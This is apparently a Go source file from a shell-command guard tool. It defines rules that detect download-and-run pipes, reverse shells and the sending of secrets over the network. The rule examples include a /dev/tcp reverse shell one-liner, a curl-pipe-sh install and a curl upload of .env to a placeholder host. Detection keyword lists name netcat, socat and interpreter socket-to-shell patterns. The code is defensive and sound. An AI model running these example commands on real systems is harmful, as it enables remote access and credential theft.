package rules

import (
	"path"
	"strings"

	"guardsh/internal/argv"
)

// Rule names of the net family.
const (
	RuleCurlPipeSh         = "curl_pipe_sh"
	RuleCurlPipeBash       = "curl_pipe_bash"
	RuleWgetPipeSh         = "wget_pipe_sh"
	RuleWgetPipeBash       = "wget_pipe_bash"
	RuleDownloadPipeShell  = "download_pipe_shell"
	RuleDownloadPipeInterp = "download_pipe_interpreter"
	RuleReverseShell       = "reverse_shell"
	RuleSendSecret         = "send_secret"
)

// NetRules returns the built-in rules of this family: downloading code and
// running it, reverse shells, and secrets sent over the network. The
// walker emits pipe_to_shell for any unknown text piped to a shell; these
// are the named, more specific rules.
func NetRules() []Builtin {
	return []Builtin{
		{Rule: Rule{Name: RuleCurlPipeSh, Level: High,
			Description: "downloads a script with curl and runs it in sh (or dash, ksh, zsh, fish) without showing it first",
			Example:     "curl -fsSL https://example.com/install.sh | sh"}, Check: netPipeCheck(RuleCurlPipeSh), Progs: netPipeProgs},
		{Rule: Rule{Name: RuleCurlPipeBash, Level: High,
			Description: "downloads a script with curl and runs it in bash without showing it first",
			Example:     "curl -fsSL https://example.com/install.sh | bash"}, Check: netPipeCheck(RuleCurlPipeBash), Progs: netPipeProgs},
		{Rule: Rule{Name: RuleWgetPipeSh, Level: High,
			Description: "downloads a script with wget and runs it in sh (or dash, ksh, zsh, fish) without showing it first",
			Example:     "wget -qO- https://example.com/install.sh | sh"}, Check: netPipeCheck(RuleWgetPipeSh), Progs: netPipeProgs},
		{Rule: Rule{Name: RuleWgetPipeBash, Level: High,
			Description: "downloads a script with wget and runs it in bash without showing it first",
			Example:     "wget -qO- https://example.com/install.sh | bash"}, Check: netPipeCheck(RuleWgetPipeBash), Progs: netPipeProgs},
		{Rule: Rule{Name: RuleDownloadPipeShell, Level: High,
			Description: "downloads a script (fetch, httpie, aria2c, lynx...) and runs it in a shell without showing it first",
			Example:     "fetch -o - https://example.com/install.sh | sh"}, Check: netPipeCheck(RuleDownloadPipeShell), Progs: netPipeProgs},
		{Rule: Rule{Name: RuleDownloadPipeInterp, Level: High,
			Description: "downloads a program and runs it in python, perl, ruby, node, php or lua without showing it first",
			Example:     "curl -s https://example.com/get.py | python3"}, Check: netInterpPipe, Progs: interpProgs, Prefixes: interpPrefixes},
		{Rule: Rule{Name: RuleReverseShell, Level: High,
			Description: "gives a remote machine a shell: nc/ncat -e or --sh-exec, socat exec:, a shell wired to /dev/tcp or to a socket descriptor, a shell between network pipes (telnet, nc, mkfifo), interpreter one-liners that connect a socket to a shell",
			Example:     "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}, Check: netReverseShell, Progs: netReverseProgs(), Prefixes: interpPrefixes},
		{Rule: Rule{Name: RuleSendSecret, Level: InfoLeak,
			Description: "sends a secret file or secret-looking data over the network: scp/rsync of a key or .env, curl -F/-d/-T with such a file or with $(...) or $TOKEN data, wget --post-file, nc < secret",
			Example:     "curl -F file=@.env https://example.com/upload"}, Check: netSendSecret, Progs: netSendProgs},
	}
}

// netProgs returns the keys of sets of program names, for builtin.progs.
func netProgs(sets []map[string]bool, extra ...string) []string {
	n := len(extra)
	for _, m := range sets {
		n += len(m)
	}
	ps := append(make([]string, 0, n), extra...)
	for _, m := range sets {
		for k := range m {
			ps = append(ps, k)
		}
	}
	return ps // in any order: the dispatch does not care
}

var (
	// netPipeProgs are the programs the download-and-run rules look at.
	netPipeProgs = netProgs([]map[string]bool{netShells}, "source", ".")
	// netSendProgs are the programs send_secret looks at.
	netSendProgs = netProgs([]map[string]bool{netTalkers}, "scp", "rsync", "sftp", "rclone", "curl", "curlie",
		"wget", "wget2", "http", "https", "httpie", "xh", "xhs", "aws", "gsutil", "gh", "ssh", "mail", "mailx",
		"sendmail", "mutt")
)

// netDownloaders fetch URLs and write what they get on stdout.
var netDownloaders = map[string]bool{"curl": true, "wget": true, "wget2": true, "fetch": true, "http": true,
	"https": true, "httpie": true, "xh": true, "xhs": true, "curlie": true, "aria2c": true, "lwp-request": true,
	"GET": true, "lynx": true, "links": true, "elinks": true, "w3m": true, "ftp": true, "tftp": true}

// netTalkers connect to a network peer and pass data both ways.
var netTalkers = map[string]bool{"nc": true, "ncat": true, "netcat": true, "nc.traditional": true,
	"nc.openbsd": true, "socat": true, "telnet": true, "openssl": true, "cryptcat": true, "pwncat": true}

// netShells run code read from stdin: internal/argv's list of shells.
var netShells = func() map[string]bool {
	m := map[string]bool{}
	for _, n := range argv.Shells() {
		m[n] = true
	}
	return m
}()

func netHelp(c *Command) bool {
	for _, a := range c.Args[1:] {
		if a.Known && (a.Value == "--help" || a.Value == "--version") {
			return true
		}
	}
	return false
}

// netNearest returns the nearest earlier pipeline stage in set, "" when none.
func netNearest(from []string, set map[string]bool) string {
	for _, n := range from {
		if set[n] {
			return n
		}
	}
	return ""
}

// netShellReadsCode reports a shell whose code comes from its stdin (or
// from a substitution the walker presents as stdin): no script operand, -s,
// -, /dev/stdin, or a -c string that is not known. Its command line is
// read with the shell's own grammar (internal/argv), every way it can be.
func netShellReadsCode(name string, args []Word) bool {
	strs := make([]string, len(args))
	for i, w := range args {
		strs[i] = w.Value
	}
	calls, ok := argv.ParseShell(name, strs, func(i int) bool { return args[i].Known && !args[i].Subst })
	if !ok {
		return true
	}
	for _, call := range calls {
		switch {
		case call.NoRun:
		case call.Command:
			if len(call.Codes) == 0 {
				return true // -c without its string
			}
			for _, code := range call.Codes {
				if w := args[code.Index]; !w.Known || w.Subst {
					return true
				}
			}
		case call.Stdin:
			return true
		case call.Script >= 0 && netStdinPath(args[call.Script]):
			return true
		}
	}
	return false
}

// netStdinPath reports a script operand that is stdin or a substitution.
func netStdinPath(a Word) bool {
	if !a.Known || a.Subst {
		return true
	}
	v := a.Value
	return v == "-" || v == "/dev/stdin" || strings.HasPrefix(v, "/dev/fd/") || v == "/proc/self/fd/0"
}

// netPipeKind names the rule for a shell running downloaded code, with the
// downloader and the shell; "" when the command is not one.
func netPipeKind(c *Command) (rule, dl, sh string) {
	if !c.StdinPiped || len(c.Args) == 0 {
		return "", "", ""
	}
	sh = c.Name()
	dl = netNearest(c.PipedFrom, netDownloaders)
	if dl == "" {
		return "", "", ""
	}
	switch {
	case netShells[sh]:
		if !netShellReadsCode(sh, c.Args[1:]) {
			return "", "", ""
		}
	case sh == "source" || sh == ".":
		if len(c.Args) > 1 && !netStdinPath(c.Args[1]) {
			return "", "", ""
		}
		sh = "bash"
	default:
		return "", "", ""
	}
	bash := sh == "bash" || sh == "rbash"
	switch {
	case dl == "curl" && bash:
		rule = RuleCurlPipeBash
	case dl == "curl":
		rule = RuleCurlPipeSh
	case (dl == "wget" || dl == "wget2") && bash:
		rule = RuleWgetPipeBash
	case dl == "wget" || dl == "wget2":
		rule = RuleWgetPipeSh
	default:
		rule = RuleDownloadPipeShell
	}
	return rule, dl, sh
}

// netPipeCheck returns the check of one download-and-run rule.
func netPipeCheck(name string) check {
	return func(c *Command) []Hit {
		if len(c.Args) == 0 || netHelp(c) {
			return nil
		}
		rule, dl, _ := netPipeKind(c)
		if rule != name {
			return nil
		}
		return hit(c.Name() + " runs a script downloaded by " + dl + " without showing it first")
	}
}

// netInterpReadsCode reports an interpreter reading its program from stdin:
// no program operand, or `-`, and no -c/-e code.
func netInterpReadsCode(c *Command) bool {
	name := c.Name()
	lang := InterpProgLang(name)
	args := c.Args[1:]
	if _, code, ok := InterpCode(c); ok {
		return !code.Known && code.Subst
	}
	var valued string
	switch lang {
	case InterpPython, InterpLua:
		// Their grammars (interp_source.go): the script is the first
		// operand; python -m runs a module.
		sp := &pythonSpec
		if lang == InterpLua {
			sp = &luaSpec
		}
		s := argv.Getopt(sp, args, WordText)
		for _, o := range s.Opts {
			if o.Name == "m" && lang == InterpPython {
				return false
			}
		}
		if s.RunTime || len(s.Operands) == 0 {
			return true // options known only at run time, or no script: stdin
		}
		return netStdinPath(args[s.Operands[0]])
	case InterpJS:
		if name == "deno" {
			for _, a := range args {
				if a.Known && a.Value == "-" {
					return true
				}
			}
			return false
		}
		if name == "bun" {
			return false
		}
		valued = "-r --require --import --loader --experimental-loader -C --conditions --input-type"
	case InterpPerl:
		valued = "-I"
	case InterpRuby:
		valued = "-r -I -E -C"
	case InterpPHP:
		valued = "-d -c -z"
	default:
		return false
	}
	// node's, perl's, ruby's and php's options are no getopt (see
	// interpNodeCode, interpPerlCode, interpPHPCode): each word is read
	// alone, and the valued options take the next word.
	for i := 0; i < len(args); i++ {
		a := args[i]
		if !a.Known || a.Subst {
			return true
		}
		v := a.Value
		switch {
		case v == "-":
			return true
		case v == "--":
			return i+1 >= len(args) || netStdinPath(args[i+1])
		case v == "-f" && lang == InterpPHP:
			return false
		case argv.IsOption(v):
			if inFields(valued, v) {
				i++
			}
		default:
			return netStdinPath(a)
		}
	}
	return true
}

func netInterpPipe(c *Command) []Hit {
	if len(c.Args) == 0 || netHelp(c) {
		return nil
	}
	lang := InterpProgLang(c.Name())
	if lang == InterpNone || lang == interpAwk {
		return nil
	}
	if !c.StdinPiped {
		// ruby -e "$(curl -fsSL URL)": the code is what a download prints.
		if _, code, ok := InterpCode(c); ok && code.Subst && !code.Known {
			if dl := netTextDownloader(c.Text); dl != "" {
				return hit(c.Name() + " " + code.flag + " runs a program downloaded by " + dl + " without showing it first")
			}
		}
		return nil
	}
	dl := netNearest(c.PipedFrom, netDownloaders)
	if dl == "" || !netInterpReadsCode(c) {
		return nil
	}
	return hit(c.Name() + " runs a program downloaded by " + dl + " without showing it first")
}

// netTextDownloader returns the downloader that starts a command
// substitution in a command's text ("$(curl -fsSL URL)"), "" when none.
func netTextDownloader(text string) string {
	for i := 0; i < len(text); i++ {
		start := -1
		switch {
		case text[i] == '$' && i+1 < len(text) && text[i+1] == '(':
			start = i + 2
		case text[i] == '`':
			start = i + 1
		}
		if start < 0 {
			continue
		}
		for start < len(text) && text[start] == ' ' {
			start++
		}
		end := start
		for end < len(text) && strings.IndexByte(" \t|;)`\"'", text[end]) < 0 {
			end++
		}
		if n := path.Base(text[start:end]); netDownloaders[n] {
			return n
		}
	}
	return ""
}

func netReverseShell(c *Command) []Hit {
	if len(c.Args) > 0 && netHelp(c) {
		return nil
	}
	name := c.Name()
	if netShells[name] {
		if hs := netShellSocket(c); hs != nil {
			return hs
		}
	}
	if c.StdinPiped && len(c.Args) > 0 {
		if t := netNearest(c.PipedFrom, netTalkers); t != "" && t != name {
			if netShells[name] && netShellReadsCode(name, c.Args[1:]) {
				return hit(name + " runs commands that come from the network through " + t + ": a reverse shell")
			}
			if lang := InterpProgLang(name); lang != InterpNone && lang != interpAwk && netInterpReadsCode(c) {
				return hit(name + " runs code that comes from the network through " + t + ": a reverse shell")
			}
		}
		if netTalkers[name] {
			if sh := netNearest(c.PipedFrom, netShells); sh != "" {
				return hit(name + " sends the input and output of " + sh + " over the network: a reverse shell")
			}
		}
	}
	switch name {
	case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "cryptcat", "pwncat":
		if prog := netNcExec(c.Args[1:]); prog != "" {
			return hit(name + " runs " + prog + " for whoever connects: a remote shell")
		}
	case "socat":
		return netSocat(c.Args[1:])
	}
	lang, code, ok := InterpCode(c)
	if !ok {
		return nil
	}
	if netCodeConnectsShell(lang, code.Value) {
		return hit(name + " " + code.flag + " connects a network socket to a shell or to commands: a reverse shell")
	}
	return nil
}

// netShellSocket finds a shell wired to the network: a redirect to
// /dev/tcp or /dev/udp, or stdin and stdout duplicated from the same
// descriptor above 2 (`sh <&196 >&196`).
func netShellSocket(c *Command) []Hit {
	in, out := map[string]bool{}, map[string]bool{}
	for _, r := range c.Redirects {
		t := r.Target.Value
		if strings.HasPrefix(path.Clean(t), "/dev/tcp/") || strings.HasPrefix(path.Clean(t), "/dev/udp/") {
			return hit(c.Name() + " connects its input or output to " + leakDisplay(t) + ": a reverse shell")
		}
		if !isNetFd(t) {
			continue
		}
		switch {
		case r.Op == "<&" || r.Op == "<>" && (r.Fd == "" || r.Fd == "0"):
			in[t] = true
		case r.Op == ">&" || r.Op == "&>" || r.Op == ">":
			out[t] = true
		}
	}
	for fd := range in {
		if out[fd] {
			return hit(c.Name() + " reads commands from and writes to descriptor " + fd + ", a socket in the usual reverse shell")
		}
	}
	return nil
}

// isNetFd reports a descriptor number above 2.
func isNetFd(s string) bool {
	if s == "" || s == "0" || s == "1" || s == "2" {
		return false
	}
	for i := 0; i < len(s); i++ {
		if s[i] < '0' || s[i] > '9' {
			return false
		}
	}
	return true
}

// netNcExec returns the program nc/ncat runs for a connection (-e, -c,
// --exec, --sh-exec, --lua-exec), "" when none.
func netNcExec(args []Word) string {
	const valued = "pswixXIOTVMmqgGP"
	for i := 0; i < len(args); i++ {
		a := args[i]
		if !a.Known {
			continue
		}
		v := a.Value
		if v == "--" {
			break
		}
		// nc's long options (ncat --exec=CMD, --sh-exec): only the long form takes
		// an attached value.
		if strings.HasPrefix(v, "--") {
			name, val, hasVal := strings.Cut(v[2:], "=")
			switch name {
			case "exec", "sh-exec", "lua-exec":
				if !hasVal && i+1 < len(args) {
					val = args[i+1].Value
				}
				return leakDisplay(val)
			}
			continue
		}
		if len(v) < 2 || v[0] != '-' {
			continue
		}
		for j := 1; j < len(v); j++ {
			ch := v[j]
			if ch == 'e' || ch == 'c' {
				prog := v[j+1:]
				if prog == "" && i+1 < len(args) {
					prog = args[i+1].Value
				}
				if prog == "" {
					prog = "a program"
				}
				return leakDisplay(prog)
			}
			if strings.IndexByte(valued, ch) >= 0 {
				if j == len(v)-1 {
					i++
				}
				break
			}
		}
	}
	return ""
}

// netSocat finds `socat ... exec:/system: ... tcp:` address pairs.
func netSocat(args []Word) []Hit {
	execAddr, netAddr := "", ""
	for _, a := range args {
		v := strings.ToLower(strings.TrimLeft(a.Value, "'\""))
		// socat's options (-d, -v, -lf FILE) come before its two addresses, which
		// never start with -.
		if strings.HasPrefix(v, "-") {
			continue
		}
		for _, p := range []string{"exec:", "system:"} {
			if strings.HasPrefix(v, p) {
				execAddr = a.Value
			}
		}
		for _, p := range []string{"tcp", "udp", "openssl", "ssl:", "sctp", "socks", "proxy:", "dccp", "vsock"} {
			if strings.HasPrefix(v, p) {
				netAddr = a.Value
			}
		}
	}
	if execAddr != "" && netAddr != "" {
		return hit("socat connects " + leakDisplay(execAddr) + " to " + leakDisplay(netAddr) + ": a remote shell")
	}
	return nil
}

// netCodeConnectsShell reports one-liner code that opens a socket and runs
// a shell or commands with it.
func netCodeConnectsShell(lang InterpLang, code string) bool {
	has := func(subs ...string) bool {
		for _, s := range subs {
			if strings.Contains(code, s) {
				return true
			}
		}
		return false
	}
	switch lang {
	case InterpPython:
		return has("socket") && has("pty.spawn", "subprocess", "dup2", "os.system", "os.popen", "/bin/sh", "/bin/bash", "os.exec")
	case InterpPerl:
		return has("socket(", "Socket", "IO::Socket") && has("exec", "system", "open(STDIN", "/bin/sh", "/bin/bash")
	case InterpRuby:
		return has("TCPSocket", "Socket.new", "UDPSocket") && has("exec", "spawn", "system", "popen", "/bin/sh", "/bin/bash", "%x", "`")
	case InterpPHP:
		return has("fsockopen", "socket_create", "stream_socket_client") && has("exec", "system", "passthru", "popen", "proc_open", "/bin/sh", "/bin/bash", "`")
	case InterpJS:
		return has("net.Socket", "require('net')", `require("net")`, "require(`net`)", "net.connect", "createConnection", "Deno.connect", "Bun.connect") &&
			has("child_process", "spawn", "exec", "/bin/sh", "/bin/bash", "Deno.Command", "Deno.run")
	case InterpLua:
		return has("socket") && has("os.execute", "io.popen", "/bin/sh", "/bin/bash")
	case interpAwk:
		return has("/inet/tcp/", "/inet/udp/", "/inet4/", "/inet6/")
	}
	return false
}

// netSecretOperand says what secret a word names as a local file, "" when
// none (a remote host:path is not local).
func netSecretOperand(c *Command, w Word) (what, shown string) {
	v := w.Value
	if i := strings.IndexByte(v, ':'); i > 0 && !strings.Contains(v[:i], "/") {
		return "", ""
	}
	return leakSecretWord(c, w)
}

func netSendSecret(c *Command) []Hit {
	if len(c.Args) == 0 || netHelp(c) {
		return nil
	}
	name := c.Name()
	args := c.Args[1:]
	switch name {
	case "scp", "rsync", "sftp", "rclone":
		return netCopySecret(c, name, args)
	case "curl", "curlie":
		return netCurlSecret(c, args)
	case "wget", "wget2":
		return netWgetSecret(c, args)
	case "http", "https", "httpie", "xh", "xhs":
		for _, a := range args {
			v := a.Value
			// httpie's request items (KEY@FILE) are operands; an option's value is
			// not one.
			if i := strings.IndexByte(v, '@'); i >= 0 && !strings.HasPrefix(v, "-") && !strings.Contains(v[:i], "=") && !strings.Contains(v[:i], ":") {
				w := a
				w.Value = v[i+1:]
				if what, shown := leakSecretWord(c, w); what != "" {
					return hit(name + " uploads " + shown + ": " + what)
				}
			}
		}
	case "aws", "gsutil":
		ops := leakOperands(args, leakAwsValued())
		if name == "aws" && len(ops) > 1 && ops[0] == "s3" && (ops[1] == "cp" || ops[1] == "mv" || ops[1] == "sync") ||
			name == "gsutil" && len(ops) > 0 && (ops[0] == "cp" || ops[0] == "mv" || ops[0] == "rsync") {
			for _, a := range args {
				if what, shown := netSecretOperand(c, a); what != "" {
					return hit(name + " uploads " + shown + ": " + what)
				}
			}
		}
	case "gh":
		if ops := leakOperands(args, leakGhValued()); leakSeq(ops, "gist", "create") {
			for _, a := range args[2:] {
				if what, shown := leakSecretWord(c, a); what != "" {
					return hit("gh gist create publishes " + shown + ": " + what)
				}
			}
		}
	}
	if netTalkers[name] || name == "ssh" || name == "mail" || name == "mailx" || name == "sendmail" || name == "mutt" {
		for _, r := range c.Redirects {
			if r.Op == "<" {
				if what, shown := leakSecretWord(c, r.Target); what != "" {
					return hit(name + " sends " + shown + " over the network: " + what)
				}
			}
		}
	}
	return nil
}

// netCopySecret: scp/rsync/sftp of a secret file (the sources: every
// operand but the last).
func netCopySecret(c *Command, name string, args []Word) []Hit {
	valued := leakFlagSet("-P -i -F -o -c -l -S -J -e --rsh --exclude --include --filter -f --port --password-file --log-file --config")
	if name == "rclone" {
		valued = leakFlagSet("--config --exclude --include --filter")
	}
	shortValued := "PiFoclSJ"
	if name == "rsync" {
		shortValued = "efTBM"
	}
	var ops []Word
	for i := 0; i < len(args); i++ {
		a := args[i]
		if v := a.Value; a.Known && argv.IsOption(v) {
			// A valued long option is in valued; a short bundle takes a value when
			// it ends in a letter of shortValued.
			if valued[v] || !strings.HasPrefix(v, "--") && len(v) > 2 && strings.IndexByte(shortValued, v[len(v)-1]) >= 0 {
				i++
			}
			continue
		}
		ops = append(ops, a)
	}
	if name == "rclone" && len(ops) > 0 {
		ops = ops[1:] // the subcommand
	}
	if len(ops) > 1 {
		ops = ops[:len(ops)-1]
	}
	for _, a := range ops {
		if what, shown := netSecretOperand(c, a); what != "" {
			return hit(name + " copies " + shown + " elsewhere: " + what)
		}
	}
	return nil
}

// netSecretData says why data handed to an uploader may hold secrets: a
// substitution or a secret-looking variable.
func netSecretData(w Word) string {
	if v := leakSecretVars(w); v != "" {
		return "$" + v
	}
	if w.Subst {
		return "the output of a command substitution"
	}
	return ""
}

// netCurlSecret: curl -F name=@file, -d @file, --data-binary @file,
// --data-urlencode name@file, --json @file, -T file, and data made of
// substitutions or secret variables.
func netCurlSecret(c *Command, args []Word) []Hit {
	pipedEnv := netNearest(c.PipedFrom, map[string]bool{"env": true, "printenv": true, "set": true, "export": true})
	check := func(opt string, w Word) []Hit {
		v := w.Value
		file := ""
		isData := true
		switch {
		case opt == "-T" || opt == "--upload-file":
			file, isData = v, false
		case opt == "-F" || opt == "--form":
			if i := strings.IndexAny(v, "@<"); i >= 0 && strings.Contains(v[:i], "=") {
				file = strings.Trim(strings.SplitN(v[i+1:], ";", 2)[0], `"`)
			}
		case opt == "--data-urlencode":
			at, eq := strings.IndexByte(v, '@'), strings.IndexByte(v, '=')
			if at >= 0 && (eq < 0 || at < eq) {
				file = v[at+1:]
			}
		case opt == "--data-raw" || opt == "--form-string":
		default:
			if strings.HasPrefix(v, "@") {
				file = v[1:]
			}
		}
		if file == "-" && c.StdinPiped && pipedEnv != "" {
			return hit("curl uploads what " + pipedEnv + " prints: every environment variable, secrets included")
		}
		if file != "" {
			fw := w
			fw.Value = file
			if what, shown := leakSecretWord(c, fw); what != "" {
				return hit("curl uploads " + shown + ": " + what)
			}
			return nil
		}
		if isData {
			if why := netSecretData(w); why != "" {
				return hit("curl sends " + why + " as data, which can hold secrets")
			}
		}
		return nil
	}
	dataOpts := leakFlagSet("-d --data --data-binary --data-ascii --data-urlencode --data-raw --json -F --form --form-string -T --upload-file")
	for i := 0; i < len(args); i++ {
		a := args[i]
		// A word only known at run time that does not start with - is
		// taken as an operand (a URL), not as an option of curl's.
		if !a.Known && !strings.HasPrefix(a.Value, "-") {
			continue
		}
		v := a.Value
		if v == "--" {
			break
		}
		opt, val := v, Word{}
		hasVal := false
		switch {
		case dataOpts[v]:
			if i+1 >= len(args) {
				continue
			}
			val, hasVal = args[i+1], true
			i++
		// curl's long options with an attached value (--data=@file).
		case strings.HasPrefix(v, "--") && strings.Contains(v, "="):
			name, rest, _ := strings.Cut(v, "=")
			if dataOpts[name] {
				opt, val, hasVal = name, a, true
				val.Value = rest
			}
		case len(v) > 2 && argv.IsShortBundle(v) && strings.IndexByte("dFT", v[1]) >= 0:
			opt, val, hasVal = v[:2], a, true
			val.Value = v[2:]
		}
		if hasVal {
			if hs := check(opt, val); hs != nil {
				return hs
			}
		}
	}
	return nil
}

// netWgetSecret: wget --post-file/--body-file of a secret, --post-data
// made of substitutions or secret variables.
func netWgetSecret(c *Command, args []Word) []Hit {
	for i := 0; i < len(args); i++ {
		a := args[i]
		name, val, hasVal := strings.Cut(a.Value, "=")
		w := a
		switch name {
		case "--post-file", "--body-file", "--post-data", "--body-data":
		default:
			continue
		}
		if hasVal {
			w.Value = val
		} else if i+1 < len(args) {
			w = args[i+1]
			i++
		} else {
			continue
		}
		if name == "--post-file" || name == "--body-file" {
			if what, shown := leakSecretWord(c, w); what != "" {
				return hit("wget uploads " + shown + ": " + what)
			}
			continue
		}
		if why := netSecretData(w); why != "" {
			return hit("wget sends " + why + " as data, which can hold secrets")
		}
	}
	return nil
}

// netReverseProgs are the programs netReverseShell looks at: shells,
// network talkers and interpreters.
func netReverseProgs() []string {
	ps := append(make([]string, 0, len(interpProgs)+len(netShells)+len(netTalkers)), interpProgs...)
	for n := range netShells {
		ps = append(ps, n)
	}
	for n := range netTalkers {
		ps = append(ps, n)
	}
	return ps
}
